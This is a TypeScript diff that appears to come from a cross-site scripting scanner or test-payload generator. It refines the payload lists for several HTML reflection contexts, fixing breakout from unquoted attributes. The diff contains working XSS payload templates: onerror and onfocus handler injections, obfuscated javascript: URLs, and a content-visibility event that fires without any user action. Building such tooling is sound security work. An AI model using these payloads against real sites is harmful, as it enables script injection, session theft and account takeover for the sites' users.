@@ -1,4 +1,4 @@
-import type { ReflectionContext, ScriptContext } from './reflection-contexts.ts';
+import type { Quote, ReflectionContext, ScriptContext } from './reflection-contexts.ts';
 import { xhtmlNamespace } from './xml-proof.ts';
 import type { XmlPlace } from './xml-proof.ts';
 
@@ -40,10 +40,11 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
     case 'tag-name':
       return [`img src=x onerror=${code} `, `script>${code}</script>`];
     case 'attribute-name':
-      return [`autofocus onfocus=${code} x`, `x>${elements[0]}`];
+      return [`x tabindex=1 autofocus onfocus=${code} x`, `x>${elements[0]}`];
     case 'attribute': {
+      const end = endOfValue(context.quote);
       const outOfTag = elements.map((element) => `${context.quote}>${element}`);
-      const newAttribute = `${context.quote} tabindex=1 autofocus onfocus=${code} x=${context.quote}`;
+      const newAttribute = `${end} tabindex=1 autofocus onfocus=${code} x=${context.quote}`;
       const special = {
         plain: [],
         url: [`javascript:${code}`, `JaVaScRiPt:${code}//`, `java\tscript:${code}`, `javajavascript:script:${code}`],
@@ -51,7 +52,7 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
         srcdoc: elements.slice(0, 2),
       }[context.role];
       // A hidden field takes no focus, but browsers with content-visibility fire this one without the user.
-      const onHidden = `${context.quote} oncontentvisibilityautostatechange=${code} style=content-visibility:auto x=${context.quote}`;
+      const onHidden = `${end} oncontentvisibilityautostatechange=${code} style=content-visibility:auto x=${context.quote}`;
       const late = [encodeURIComponent(outOfTag[0] ?? ''), escaped(outOfTag[0] ?? ''), references(outOfTag[0] ?? '')];
       return [...special, ...outOfTag.slice(0, 1), newAttribute, onHidden, ...outOfTag.slice(1), ...late];
     }
@@ -59,13 +60,18 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
       return [
         ...outOfState(context.state, code),
         `${context.quote}>${elements[0]}`,
-        `${context.quote} onfocus=${code} x=${context.quote}`,
+        `${endOfValue(context.quote)} onfocus=${code} x=${context.quote}`,
       ];
     case 'script':
       return [...outOfState(context.state, code), `</script>${elements[0]}`];
     case 'xml':
       return outOfXml(context.place, code);
   }
+}
+
+/** Without quotes a space ends a value only where something is before it: else what follows becomes the value. */
+function endOfValue(quote: Quote): string {
+  return quote === '' ? 'x' : quote;
 }
 
 const names = 'a body div iframe input video details object form math select marquee audio style meta b';
